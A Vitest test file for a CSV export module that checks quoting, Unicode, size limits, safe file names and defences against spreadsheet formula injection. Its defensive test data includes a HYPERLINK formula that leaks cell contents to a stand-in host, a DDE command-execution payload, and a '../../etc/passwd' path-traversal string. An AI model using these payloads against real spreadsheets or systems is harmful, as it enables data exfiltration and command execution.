import { describe, expect, test } from 'vitest';
import { csvName, toCsv } from '../../src/flow/queries/csv.ts';
import type { Cell } from '../../src/kql/logs.ts';

const table = (rows: Cell[][], ...names: string[]) => ({
  title: 'Sign-ins',
  columns: names.map((name) => ({ name, type: 'string' })),
  rows,
});

/** Without the byte order mark, in lines. */
function lines(...tables: Parameters<typeof toCsv>[0]): string[] {
  const text = Buffer.from(toCsv(tables).content).toString('utf8');
  expect(text.charCodeAt(0)).toBe(0xfeff);
  expect(text.endsWith('\r\n')).toBe(true);
  return text.slice(1, -2).split('\r\n');
}

test('rows come below the names of their columns', () => {
  const at = '2026-11-20T02:00:00.123Z';
  expect(lines(table([[at, 'adam', 17, 0.5, true, null]], 'At', 'Who', 'n', 'share', 'ok', 'gone'))).toEqual([
    'At,Who,n,share,ok,gone',
    `${at},adam,17,0.5,true,`,
  ]);
});

test('what holds commas, quotes or lines is quoted, objects and lists are JSON', () => {
  const rows: Cell[][] = [['a,b', 'say "no"', 'one\ntwo', { a: [1, 'x'] }, ['y'], 'Łódź 🦊']];
  expect(
    lines(table(rows, 'a', 'b', 'c', 'd', 'e', 'f'))
      .slice(1)
      .join('\r\n'),
  ).toBe('"a,b","say ""no""","one\ntwo","{""a"":[1,""x""]}","[""y""]",Łódź 🦊');
});

describe('what a spreadsheet would run', () => {
  test.each([
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
    '\u200b=1+1',
    '\ufeff=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
    '=HYPERLINK("http://evil.example?x="&A1,"here")',
    "=cmd|'/c calc'!A0",
  ])('is text: %j', (cell) => {
    const [, shown = ''] = lines(table([[cell]], 'x'));
    expect(shown).toMatch(/^"?'/);
  });

  test('is text in the name of a column and in a title as well', () => {
    const one = { ...table([['1']], '=x'), title: '=y' };
    expect(lines(one, one)).toEqual(["'=y", "'=x", '1', '', "'=y", "'=x", '1']);
  });

  test('is no number below nought, which stays a number', () => {
    expect(lines(table([[-5], [-0.25]], 'n'))).toEqual(['n', '-5', '-0.25']);
  });
});

test('several tables stand one below the other, each with its title', () => {
  const sent = { ...table([['b']], 'x'), title: 'Sent, and received' };
  expect(lines(table([['a']], 'x'), sent)).toEqual([
    'Sign-ins',
    'x',
    'a',
    '',
    '"Sent, and received"',
    'x',
    'b',
  ]);
});

test('no file holds a NUL or half a character', () => {
  expect(lines(table([['a\0b\ud800']], 'x'))[1]).toBe('ab\ufffd');
});

test('rows that do not fit are left out whole, and counted', () => {
  const rows = Array.from({ length: 1_000 }, (_, n) => [`row ${n} ${'é'.repeat(50)}`]);
  const { content, leftOut } = toCsv([table(rows, 'x')], 20_000);
  expect(content.length).toBeLessThanOrEqual(20_000);
  expect(content.length).toBeGreaterThan(19_800);
  const kept = Buffer.from(content).toString('utf8').trim().split('\r\n').slice(1);
  expect(kept).toHaveLength(1_000 - leftOut);
  expect(kept.at(-1)).toContain(`row ${kept.length - 1} ${'é'.repeat(50)}`);
});

test('a row of a megabyte is left out where there is no room for it', () => {
  const rows = [['a'], ['x'.repeat(1_000_000)], ['b']];
  expect(toCsv([table(rows, 'x')], 1_000)).toMatchObject({ leftOut: 2 });
});

test.each([
  ['Hunt: Password spray', 'hunt-password-spray-2026-11-21-1000.csv'],
  ['../../etc/passwd', 'etc-passwd-2026-11-21-1000.csv'],
  ['ip 203.0.113.9', 'ip-203-0-113-9-2026-11-21-1000.csv'],
  ['Größe: Ω', 'gro-e-2026-11-21-1000.csv'],
  ['‮\0<>|"', 'query-2026-11-21-1000.csv'],
  ['x'.repeat(500), `${'x'.repeat(60)}-2026-11-21-1000.csv`],
])('a file for "%s" has a name that every system takes', (title, name) => {
  expect(csvName(title, '2026-11-21T10:00:13.000Z')).toBe(name);
});
